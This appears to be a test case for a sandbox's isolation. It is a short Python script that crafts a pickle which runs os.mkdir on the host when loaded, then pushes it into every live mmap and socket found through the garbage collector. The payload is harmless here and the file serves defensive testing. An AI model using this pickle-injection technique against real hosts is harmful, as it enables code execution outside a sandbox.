# attack: answer the host with a pickle that runs code when loaded
# expect: read as text
# kind: contained
import gc, mmap, os, pickle, socket


class Load:
    def __reduce__(self):
        return os.mkdir, ("@HOST_DIR@/pickled",)


data = pickle.dumps(Load())
for one in [thing for thing in gc.get_objects() if isinstance(thing, (mmap.mmap, socket.socket))]:
    try:
        if isinstance(one, mmap.mmap):
            one[: len(data)] = data
        else:
            one.send(data)
    except (OSError, ValueError, TypeError) as error:
        print(error)
print("sent")
os._exit(1)
